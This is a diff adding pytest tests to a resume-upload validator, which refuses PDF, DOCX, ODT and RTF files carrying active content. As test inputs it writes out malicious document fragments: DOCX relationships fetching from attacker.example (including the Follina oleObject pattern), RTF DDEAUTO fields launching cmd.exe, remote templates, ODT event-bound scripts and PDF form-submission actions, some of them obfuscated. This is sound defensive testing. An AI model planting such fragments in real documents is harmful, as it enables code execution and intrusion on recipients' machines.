@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import sqlite3
 import struct
 import zipfile
@@ -326,3 +327,272 @@ def test_a_name_filling_its_whole_field_without_a_nul_is_read() -> None:
     """32 characters, no terminating NUL and a length field past the field: read to its end."""
     assert resumes.check_resume("cv.doc", word_97(**{"N" * 32: b"x"}), 10**6).size > 0
     assert refusal(word_97(**{"Macros" + "\0" * 2 + "N" * 24: {"x": b"y"}})) == MACROS
+
+
+# -- PDF stream bodies are not read: names turn up in image data by chance ----------------------
+
+
+def pdf_with_stream(body: bytes, length: bytes | None = None, after: bytes = b"") -> bytes:
+    size = str(len(body)).encode() if length is None else length
+    image = (
+        b"2 0 obj\n<< /Type /XObject /Subtype /Image /Width 800 /Height 600 /BitsPerComponent 8 "
+        b"/ColorSpace /DeviceRGB /Filter /DCTDecode /Length "
+        + size
+        + b" >>\nstream\n"
+        + body
+        + b"\nendstream\nendobj\n"
+    )
+    return samples.pdf().replace(b"endobj\n", b"endobj\n" + image + after, 1)
+
+
+def test_random_image_data_in_a_stream_is_not_taken_for_names() -> None:
+    """Random bytes (as JPEG and Flate data look) held `/AA` or `/JS` and a delimiter about once
+    in 100 MB: seed 208's first MB does, and was refused for "JavaScript"."""
+    seeds = [(seed, 1_000_000) for seed in range(200, 216)] + [(1, 4_000_000), (2, 3_000_000)]
+    for seed, size in seeds:
+        body = random.Random(seed).randbytes(size)
+        data = pdf_with_stream(body)
+        assert resumes.check_resume("cv.pdf", data, 10**7).content_type == resumes.PDF, seed
+        crlf = data.replace(b">>\nstream\n", b">>\r\nstream\r\n", 1)  # either end of line
+        assert resumes.check_resume("cv.pdf", crlf, 10**7).content_type == resumes.PDF, seed
+
+
+@pytest.mark.parametrize(
+    "length",
+    [b"4 0 R", b"3", b"99999999"],  # indirect, short, past the end: the body ends at endstream
+)
+def test_a_stream_whose_length_cannot_be_trusted_ends_at_endstream(length: bytes) -> None:
+    data = pdf_with_stream(b"/AA /JS x", length)
+    assert resumes.check_resume("cv.pdf", data, 10**7).content_type == resumes.PDF
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pdf_with_stream(b"\x00" * 1000, after=b"3 0 obj\n<< /AA << /O 4 0 R >> >>\nendobj\n"),
+        pdf_with_stream(b"x", b"1", after=b"/AA"),  # right after an endstream
+        pdf_with_stream(b"x" * 10, b"5", after=b"/AA"),  # a short /Length: endstream decides
+        pdf_with(b"/T (stream\n) /AA << >> /U (endstream)"),  # no dictionary before `stream`
+        samples.pdf() + b"<< /Length 3 >>\nstream\nabc\nendstrea /AA",  # no endstream at all
+    ],
+)
+def test_names_outside_stream_bodies_are_still_found(data: bytes) -> None:
+    assert "automatic actions (/AA)" in refusal(data)
+
+
+@pytest.mark.parametrize(
+    ("fragment", "what"),
+    [
+        (b"/AcroForm << /Fields [] /XFA 3 0 R >>", "an XFA form (/XFA), which may carry scripts"),
+        (
+            b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\x.pdf) >>",
+            "a link that opens another file (/GoToR)",
+        ),
+        (
+            b"/OpenAction << /S /GoToE /T << /R /C >> >>",
+            "a link that opens an attached file (/GoToE)",
+        ),
+        (
+            b"/A << /S /SubmitForm /F (http://x.example) >>",
+            "a form that sends data away (/SubmitForm)",
+        ),
+        (
+            b"/A << /S /Import#44ata /F (x.fdf) >>",
+            "a form that imports data from a file (/ImportData)",
+        ),
+    ],
+)
+def test_pdf_forms_and_remote_links_are_refused(fragment: bytes, what: str) -> None:
+    assert refusal(pdf_with(fragment)) == (
+        f"the PDF resume contains {what}; send a PDF without scripts, actions or attached files"
+    )
+
+
+def test_pdf_web_links_and_opening_views_are_accepted() -> None:
+    fragment = b"/OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://example.com/jane) >> /XFAX 1"
+    assert resumes.check_resume("cv.pdf", pdf_with(fragment), 10_000).content_type == resumes.PDF
+
+
+# -- DOCX relationships Word follows on opening ---------------------------------------------------
+
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def rels(*relationships: str) -> bytes:
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+        '2006/relationships">' + "".join(relationships) + "</Relationships>"
+    ).encode()
+
+
+def relationship(kind: str, target: str, external: bool = True) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}"{mode}/>'
+
+
+@pytest.mark.parametrize(
+    ("part", "kind", "what"),
+    [
+        ("word__rels__document.xml.rels", "oleObject", "an object (oleObject)"),  # Follina
+        ("word__rels__settings.xml.rels", "attachedTemplate", "a template (attachedTemplate)"),
+        ("word__rels__document.xml.rels", "subDocument", "a sub-document (subDocument)"),
+        ("word__rels__webSettings.xml.rels", "frame", "a frame (frame)"),
+        ("word__rels__settings.xml.rels", "&#97;ttachedTemplate", "a template (attachedTemplate)"),
+        ("customXml__rels__item1.XML.RELS", "attachedTemplate", "a template (attachedTemplate)"),
+    ],
+)
+def test_docx_relationships_fetched_on_opening_are_refused(part: str, kind: str, what: str) -> None:
+    data = docx(**{part: rels(relationship(kind, "http://attacker.example/x.html!"))})
+    assert refusal(data) == (
+        f"the resume contains a link to {what} that Word would fetch when it is opened; "
+        "send it as PDF or as a document without linked templates or objects"
+    )
+
+
+def test_a_docx_alt_chunk_and_an_inner_ole_object_are_refused() -> None:
+    chunk_rels = rels(relationship("aFChunk", "afchunk.rtf", False))
+    rtf = rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"
+    chunk = docx(**{"word/_rels/document.xml.rels": chunk_rels, "word/afchunk.rtf": rtf})
+    assert refusal(chunk) == (
+        "the resume contains an embedded foreign document (altChunk) that Word converts when it "
+        "is opened; send it as PDF or as a document without embedded documents"
+    )
+    inner = docx(
+        **{"word/_rels/document.xml.rels": rels(relationship("oleObject", "x.dat", False))}
+    )
+    assert refusal(inner) == EMBEDDED
+
+
+def test_docx_links_and_images_are_accepted() -> None:
+    links = rels(
+        relationship("hyperlink", "https://www.linkedin.com/in/jane"),
+        relationship("image", "media/image1.png", False),
+        relationship("attachedTemplate", "file:///C:/Templates/Resume.dotx", False),
+    )
+    data = docx(**{"word/_rels/document.xml.rels": links, "word/media/image1.png": b"\x89PNG"})
+    assert resumes.check_resume("cv.docx", data, 100_000).content_type == resumes.DOCX
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        docx(**{"word/_rels/document.xml.rels": b"<!DOCTYPE R [<!ENTITY e 'x'>]><Relationships/>"}),
+        docx(**{"word/_rels/document.xml.rels": b"<Relationships>"}),
+        docx(**{"word/_rels/document.xml.rels": rels("<R/>" * 70_000)}),  # over 256 KiB
+    ],
+)
+def test_unreadable_or_oversized_relationships_are_refused(data: bytes) -> None:
+    assert refusal(data).startswith("the resume is a damaged DOCX file: a relationships part")
+
+
+def test_a_docx_with_too_many_relationship_parts_is_refused() -> None:
+    parts = {f"word/_rels/p{index}.xml.rels": rels() for index in range(100)}
+    assert refusal(docx(**parts)) == (
+        "the DOCX resume has more than 100 relationship parts (.rels); send it as PDF"
+    )
+
+
+# -- ODT scripts bound to events ------------------------------------------------------------------
+
+
+def odt_with(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", resumes.ODT)
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+LISTENER = (
+    b'<office:event-listeners><script:event-listener script:language="ooo:script" '
+    b'script:event-name="dom:load" xlink:href="vnd.sun.star.script:pythonSamples|T.py$f'
+    b'?language=Python&amp;location=share"/></office:event-listeners>'
+)
+
+
+@pytest.mark.parametrize(
+    "members",
+    [
+        {"content.xml": b"<office:document-content>" + LISTENER + b"</office:document-content>"},
+        {"styles.xml": b"<office:document-styles>" + LISTENER + b"</office:document-styles>"},
+        {
+            "content.xml": b'<x><event-listener xmlns="urn:oasis:names:tc:opendocument:xmlns:'
+            b'script:1.0" event-name="dom:load"/></x>'
+        },
+        {"content.xml": b'<text:a xlink:href="VND.SUN.STAR.SCRIPT:Standard.M.x">cv</text:a>'},
+        {"content.xml": b"<x>" + b" " * (300 * 1024) + b"<s:event-listener/></x>"},  # 2nd read
+    ],
+)
+def test_odt_scripts_bound_to_events_are_refused(members: dict[str, bytes]) -> None:
+    assert refusal(odt_with(members)) == (
+        "the resume contains a script bound to an event or a link to a macro; send it as PDF "
+        "or as a document without macros"
+    )
+
+
+def test_odt_text_about_event_listeners_is_accepted() -> None:
+    text = b"<text:p>Wrote an event-listener framework; DOM event-listener APIs</text:p>"
+    data = odt_with({"content.xml": text, "styles.xml": b"<office:document-styles/>"})
+    assert resumes.check_resume("cv.odt", data, 100_000).content_type == resumes.ODT
+
+
+# -- RTF remote templates and DDE fields ----------------------------------------------------------
+
+RTF_DDE = (
+    "the resume contains a DDE field, which runs a program when the document is opened; "
+    "send it as PDF or as a document without DDE fields"
+)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        rb'{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"}{\fldrslt x}}',
+        rb"{\field{\*\fldinst {\rtlch\fcs1 \af0 \insrsid123 ddeauto c:\\x.exe}}}",
+        rb"{\field{\*\fldinst {\f1 D}{DE} c:\\x.exe}}",  # split across groups
+        rb"{\field{\*\fldinst \'44\'44\'45AUTO c:\\x.exe}}",  # hex-escaped letters
+    ],
+)
+def test_rtf_dde_fields_are_refused(body: bytes) -> None:
+    assert refusal(b"{\\rtf1\\ansi Jane Doe\\par " + body + b"}") == RTF_DDE
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        rb"http://attacker.example/t.dotm",
+        rb"HTTPS://attacker.example/t.dotm",
+        rb"file://host/share/t.dotm",
+        rb"\\\\host\\share\\t.dotm",  # a share, its backslashes escaped as RTF writes them
+        rb"\'5c\'5Chost\'5cshare\'5ct.dotm",
+    ],
+)
+def test_rtf_remote_templates_are_refused(where: bytes) -> None:
+    data = rb"{\rtf1\ansi{\*\template " + where + rb"}Jane Doe\par}"
+    assert refusal(data) == (
+        "the resume contains a template link (\\template) that Word would fetch when it is "
+        "opened; send it as PDF or as a document without an attached template"
+    )
+
+
+def test_rtf_made_from_a_local_template_is_accepted() -> None:
+    """Word writes the template a document was made from (often a resume template) into its
+    RTF: a local path is no fetch."""
+    local = rb"{\rtf1\ansi{\*\template C:\\Users\\jane\\Templates\\Resume.dotx}Jane Doe\par}"
+    assert resumes.check_resume("cv.rtf", local, 10_000).content_type == resumes.RTF
+
+
+def test_rtf_hyperlinks_and_text_about_dde_are_accepted() -> None:
+    data = (
+        rb"{\rtf1\ansi Worked on DDE and templates\par{\field{\*\fldinst HYPERLINK "
+        rb'"https://example.com"}{\fldrslt site}}\par C:/templates\par}'
+    )
+    assert resumes.check_resume("cv.rtf", data, 10_000).content_type == resumes.RTF
+
+
+def test_rtf_with_too_many_fields_is_refused() -> None:
+    assert resumes.check_resume("cv.rtf", b"{\\rtf1 " + b"\\fldinst " * 10_000 + b"}", 10**6)
+    assert refusal(b"{\\rtf1 " + b"\\fldinst " * 10_001 + b"}") == (
+        "the RTF resume has more than 10,000 fields; save it again as PDF and send that"
+    )
